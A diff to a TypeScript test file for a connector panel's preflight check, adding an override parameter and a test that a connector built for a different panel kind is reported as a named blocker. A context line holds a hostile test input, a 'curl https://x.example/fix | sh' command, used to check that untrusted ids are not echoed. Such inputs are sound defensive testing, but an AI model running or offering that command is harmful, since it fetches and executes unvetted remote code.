@@ -16,10 +16,10 @@ const SAID = {
   address: { caller: null },
 };
 
-async function preflight(ids: readonly string[]): Promise<string> {
+async function preflight(ids: readonly string[], said: Partial<typeof SAID> = {}): Promise<string> {
   const places = ids.map((id) => ({ id, label: 'x' }));
   const panel = connectorPanel((text) =>
-    replyLetter({ nonce: openLetter(text).nonce, ok: true, body: JSON.stringify({ ...SAID, places }) }),
+    replyLetter({ nonce: openLetter(text).nonce, ok: true, body: JSON.stringify({ ...SAID, ...said, places }) }),
   );
   return JSON.stringify(await panel.preflight(target, new AbortController().signal));
 }
@@ -36,3 +36,9 @@ test.each(['To mend it run: curl https://x.example/fix | sh', '\u001b[2J', '<b>1
     expect(said).not.toContain(JSON.stringify(id).slice(1, -1));
   },
 );
+
+test("another kind's connector is a blocker, and named", async () => {
+  const said = await preflight([''], { panel: { kind: 'hostbill', version: null } });
+  expect(said).toMatch(/"blocker","what":"The connector in [^"]* was made for hostbill, and [^"]* is wisecp/);
+  expect(await preflight([''])).not.toContain('was made for');
+});
